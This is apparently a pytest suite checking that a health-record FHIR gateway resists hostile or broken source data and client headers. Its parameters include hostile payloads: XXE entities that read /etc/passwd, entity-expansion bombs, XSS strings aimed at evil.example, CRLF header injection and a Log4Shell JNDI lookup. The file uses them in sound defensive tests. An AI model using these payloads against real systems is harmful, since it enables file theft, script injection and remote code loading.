"""What sources send, on the whole line; numbered as in the list of attacks; each has a positive control beside it."""

from __future__ import annotations

import itertools
from dataclasses import replace
from decimal import Decimal

import pytest

from gateway.model import Caller
from tests.attacks.lies import at_hospital, incidents, natives
from tests.gateway.charts import (
    BSN,
    BSN_SYSTEM,
    CHARTS,
    OTHER_BSN,
    Json,
    allergy,
    condition,
    medication,
    observation,
    person,
)
from tests.gateway.test_answers import identified, states
from tests.gateway.world import HOSPITAL, PHYSICIAN, World, bundle, raw, run

# --- C. what sources send ------------------------------------------------------------------------


def test_077_a_source_that_knows_another_person_is_not_believed() -> None:
    world = at_hospital(person("h2", OTHER_BSN), observation("o1", "h2"), observation("o2", "h1"))
    reply = world.search("Observation")
    assert (reply.status, reply.code) == (504, "sources-unavailable")
    assert OTHER_BSN.encode() not in reply.body
    both = World(charts=CHARTS | {"hospital": [person("h2", OTHER_BSN), allergy("a9", "h2")]})
    assert natives(both.search()) == ["AllergyIntolerance/a1"]
    assert both.search().remarks == ["source-failed"]
    assert "wrong-patient Patient" in incidents(both)


def test_077_control_the_right_person() -> None:
    assert natives(at_hospital(person("h1"), observation("o1", "h1")).search("Observation")) == ["Observation/o1"]


def test_078_one_foreign_entry_among_fifty_is_dropped_and_on_the_record() -> None:
    rows = [observation(f"o{number}", "h1") for number in range(49)]
    world = at_hospital(person("h1"), *rows[:20], observation("foreign", "h2", code="1-1"), *rows[20:])
    assert len(world.search("Observation", more="&_count=100").items) == 49
    assert incidents(world) == ["wrong-patient Observation Observation.subject"]
    assert len(at_hospital(person("h1"), *rows).search("Observation").items) == 49


def test_079_what_was_not_asked_is_not_shown() -> None:
    world = at_hospital(person("h1"), observation("o1", "h1"), allergy("a1", "h1"), condition("c1", "h1"), lies=True)
    world.says("deny", HOSPITAL, categories=frozenset({"Condition"}))
    assert natives(world.search("Observation")) == ["Observation/o1"]
    assert world.search("Condition").items == []
    assert b"Diabetes" not in world.summary().body
    narrow = replace(PHYSICIAN, scopes=frozenset({"system/Patient.rs", "system/Observation.rs"}))
    assert b"Penicilline" not in world.summary(narrow).body


BROKEN: list[Json] = [
    observation("x", "h1", status="nonsense"), observation("x", "h1", effectiveDateTime="yesterday"), observation("x", "h1", frobnicate=1),
    observation("x", "h1", valueString="two values"), observation("x", "h1") | {"code": "text"}, observation("x" * 65, "h1"),
    observation("x", "h1", subject=[{"reference": "Patient/h1"}]), observation("x", "h1", subject="Patient/h1"),
    observation("x", "h1", meta="x"), observation("x", "h1", contained="x"), observation("x", "h1", contained=["x"]),
    observation("x", "h1", category="x"), observation("x", "h1", extension={"url": 1}), observation("x", "h1", identifier=7),
    observation("x", "h1", text="<div/>"), observation("x", "h1", meta={"tag": "x"}), observation("x", "h1", meta={"security": "x"}),
    observation("x", "h1", meta={"security": ["x"]}), observation("x", "h1", subject={"reference": 7}), observation("x", "h1", subject={}),
    observation("x", "h1", subject={"reference": "Patient/h1", "identifier": {"system": BSN_SYSTEM, "value": OTHER_BSN}}),
    observation("x", "h1", subject={"identifier": "x"}), observation("x", "h1", subject={"reference": "Patient/h1", "identifier": "x"}),
    {"resourceType": "Observation", "id": "x"}, {"resourceType": "Nonsense", "id": "x"}, {"resourceType": 7, "id": "x"}, {"id": "x"},
    {"resourceType": "Observation", "subject": {"reference": "Patient/h1"}}, observation("x", "h1", category=[{"coding": [{"code": 7}]}]),
    observation("x", "h1") | {"code": {"coding": "x"}}, observation("x", "h1") | {"code": {"coding": [None]}},
    person("h1", identifier="x"), person("h1", name="x"), person("h1", birthDate=7), person("h1", birthDate="not a date"),
]  # fmt: skip


LONG_ID = 5  # an id that is too long gets another; the item is sound


@pytest.mark.slow
@pytest.mark.parametrize("position", range(len(BROKEN)))
def test_080_a_malformed_resource_costs_itself_only(position: int) -> None:
    world = World(charts=CHARTS | {"hospital": [person("h1"), BROKEN[position], observation("good", "h1")]})
    world.charts["hospital"].lies = True
    reply = world.search("Observation")
    assert reply.status == 200
    assert "Observation/good" in natives(reply)
    assert len(reply.items) == (2 if position == LONG_ID else 1)
    if len(reply.items) == 1 and BROKEN[position].get("resourceType") != "Patient":
        assert "item-kept-out" in reply.remarks or any(
            one.startswith("wrong-patient Observation") for one in incidents(world)
        )
    assert world.summary().status == 200
    assert b"Penicilline" in world.summary().body


def test_081_the_same_id_twice_is_shown_deterministically() -> None:
    twice = [observation("o1", "h1"), observation("o1", "h1", code="8480-6"), observation("o1", "h1")]
    answers = {at_hospital(person("h1"), *twice).search("Observation").body for _ in range(3)}
    assert len(answers) == 1
    reply = at_hospital(person("h1"), *twice).search("Observation")
    assert (len(reply.items), reply.items[0]["code"]["coding"][0]["code"]) == (1, "8867-4")
    assert reply.remarks == ["item-kept-out"], "that there was another is said"
    assert at_hospital(person("h1"), *[observation("o1", "h1")] * 3).search("Observation").remarks == []


@pytest.mark.slow
def test_082_a_body_cut_anywhere_gives_nothing_of_it() -> None:
    whole = bundle([person("h1"), observation("o1", "h1")])
    world = at_hospital()
    for at in range(0, len(whole), 7):
        world.charts["hospital"].body = whole[:at]
        reply = world.search("Observation")
        assert (reply.status, reply.code) == (504, "sources-unavailable")
    world.charts["hospital"].body = whole
    assert len(world.search("Observation").items) == 1


@pytest.mark.slow
@pytest.mark.parametrize(
    "down", [names for size in range(4) for names in itertools.combinations(("gp", "hospital", "mental"), size)]
)
@pytest.mark.parametrize("code", ["timeout", "status", "connection", "malformed", "circuit-open"])
def test_084_every_subset_of_failing_sources_is_told(down: tuple[str, ...], code: str) -> None:
    world = World().with_source_down(*down, code=code)
    reply, summary = world.search("Condition"), world.summary()
    assert summary.status == 200
    if len(down) == 3:
        assert (reply.status, reply.code) == (504, "sources-unavailable")
        assert states(summary.json) == {"unavailable"}
        return
    assert reply.remarks == ["source-failed"] * len(down)
    assert len(reply.items) == len({"gp", "mental"} - set(down))
    assert ("unavailable" in states(summary.json)) is bool(down)
    if down:
        assert "nilknown" not in summary.body.decode()
        assert b"no-known" not in summary.body.replace(b"no-known-problems", b"")


NUMBERS = [
    "1.10",
    "0.00",
    "100",
    "1e2",
    "1.0E-7",
    "123456789012345678.123456789",
    "-0.0",
    "0.1000000000000000055511151231257827",
    "3.00e+5",
]


@pytest.mark.parametrize("number", NUMBERS)
def test_089_a_number_keeps_every_digit(number: str) -> None:
    marker = "987654.321"
    body = bundle([person("h1"), observation("o1", "h1", valueQuantity={"value": Decimal(marker), "unit": "mmol/L"})])
    assert marker.encode() in body
    world = at_hospital()
    world.charts["hospital"].body = body.replace(marker.encode(), number.encode())
    reply = world.search("Observation")
    written = reply.body.split(b'"valueQuantity":{"value":')[1].split(b",")[0].decode()
    assert Decimal(written) == Decimal(number)
    assert Decimal(written).as_tuple() == Decimal(number).as_tuple()
    if "e" not in number.lower():
        assert written == number


@pytest.mark.parametrize("date", ["2026", "2026-02", "2026-02-01", "2026-03-29T02:30:00+01:00", "9999-12-31", "2026-02-01T10:00:00.123456Z",
                                  "1900-01-01", "2026-02-01T10:00:00-14:00"])  # fmt: skip
def test_090_a_date_stays_as_partial_as_it_is(date: str) -> None:
    world = at_hospital(person("h1"), observation("o1", "h1", effectiveDateTime=date))
    assert world.search("Observation").items[0]["effectiveDateTime"] == date
    assert world.summary().status == 200


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16", "utf-8-sig"])
def test_091_another_charset_is_a_failure_not_a_guess(encoding: str) -> None:
    text = bundle([person("h1", name=[{"family": "Müller"}]), observation("o1", "h1")]).decode()
    world = at_hospital(body=text.encode(encoding))
    assert world.search("Observation").code == "sources-unavailable"
    assert natives(at_hospital(body=text.encode()).search("Observation")) == ["Observation/o1"]


@pytest.mark.parametrize("body", [
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Bundle xmlns="http://hl7.org/fhir">&e;</Bundle>',
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><Bundle xmlns="http://hl7.org/fhir">&b;</Bundle>',
    b"<a>" * 100_000,
])  # fmt: skip
def test_098_099_100_xml_bombs_cost_their_source_only(body: bytes) -> None:
    world = World()
    world.charts["hospital"].body = body
    assert natives(world.search()) == ["AllergyIntolerance/a1"]
    assert b"root:" not in world.search().body
    assert World().post("Patient/$summary", body[:90_000], content_type="application/fhir+xml").status == 400


@pytest.mark.parametrize(
    "value", ["９９９９９００１９", f"{BSN}\u200b", f"\u202e{BSN}", "999990O19", " " + BSN, BSN + "\u0000", "+99999001"]
)
def test_106_a_number_is_nine_ascii_digits(value: str) -> None:
    world = World()
    reply = world.post("Patient/$summary", identified(value))
    assert reply.status in {400, 422}
    assert world.asked() == []


@pytest.mark.slow
@pytest.mark.parametrize("script", ["<script>alert(1)</script>", '<img src="x" onerror="alert(1)"/>', '<a href="javascript:alert(1)">x</a>',
                                    '<svg onload="alert(1)"></svg>', '<iframe src="//evil.example"></iframe>', '<img src="http://evil.example/t.gif"/>',
                                    "<style>*{background:url(//evil.example)}</style>", '<form action="//evil.example"></form>'])  # fmt: skip
@pytest.mark.parametrize("status", ["generated", "additional", "extensions", "empty"])
def test_123_124_scripts_in_text_of_a_source_never_arrive(script: str, status: str) -> None:
    div = f'<div xmlns="http://www.w3.org/1999/xhtml">harmless {script}</div>'
    named = {"coding": [{"system": "http://snomed.info/sct", "code": "764146007", "display": script}], "text": script}
    world = at_hospital(
        person("h1", name=[{"family": script}]), allergy("a1", "h1", text={"status": status, "div": div}, code=named)
    )
    page = world.summary(accept="text/html").body.decode()
    assert script not in page
    assert "<script" not in page
    narratives = [entry["resource"].get("text", {}).get("div", "") for entry in world.summary().json["entry"]]
    sections = [section["text"]["div"] for section in world.summary().json["entry"][0]["resource"]["section"]]
    for text in (*narratives, *sections, *(item.get("text", {}).get("div", "") for item in world.search().items)):
        assert not any(
            bad in text
            for bad in ("<script", "<img", 'onerror="alert', "<iframe", "<svg", "<form", "<style", 'href="javascript')
        )


@pytest.mark.parametrize(
    "value",
    ["a\r\nSet-Cookie: x=1", "x\ny", "\x1b[31mred", "${jndi:ldap://evil}", "a" * 8_000, '"}\n{"kind":"outcome"'],
)
def test_128_what_a_client_sends_writes_no_line_and_no_header(value: str) -> None:
    world = World()
    headers = [(b"host", b"x"), (b"x-request-id", value.encode()), (b"x-correlation-id", value.encode()), (b"user-agent", value.encode()),
               (b"accept-language", value.encode()), (b"traceparent", value.encode())]  # fmt: skip
    query = b"patient=x&" + value.encode().replace(b"&", b"") + b"=1"
    reply = run(raw(world.app, {"path": "/fhir/Observation/" + value[:60], "query_string": query, "headers": headers}))
    assert reply is not None
    assert reply.status in {400, 401, 404, 431}
    for name, text in reply.headers.items():
        assert "\n" not in text
        assert "\r" not in text
        assert value not in (name, text)
    assert all(b"\n" not in record for record in world.audit.records)
    assert value.encode() not in b"".join(world.audit.records)


def test_131_no_record_no_data_whatever_is_asked() -> None:
    asks = (lambda world: world.search(), lambda world: world.summary(), lambda world: world.find(),
            lambda world: world.get(f"Patient/{world.patient}"))  # fmt: skip
    for ask, at in itertools.product(asks, (1, 2)):
        world = World()
        world.audit.fails_at = at
        reply = ask(world)
        assert (reply.status, reply.code) == (503, "audit-unavailable")
        assert not any(text in reply.body for text in (b"Penicilline", b"Jansen", b"Diabetes"))
        assert ask(World()).status == 200


def test_169_claims_do_not_inflate_who_one_is() -> None:
    inflated = replace(PHYSICIAN.requester, organization="99999999", facility_type="V4")
    world = World()
    nobody: Caller = replace(PHYSICIAN, requester=inflated)
    assert world.search(caller=nobody).code == "agreement-missing"
    assert medication()["status"] == "active"
    world.search(caller=replace(PHYSICIAN, requester=replace(PHYSICIAN.requester, facility_type="V4")))
    assert world.records[-1].facility == "N6", "the type of an organization comes from the directory"
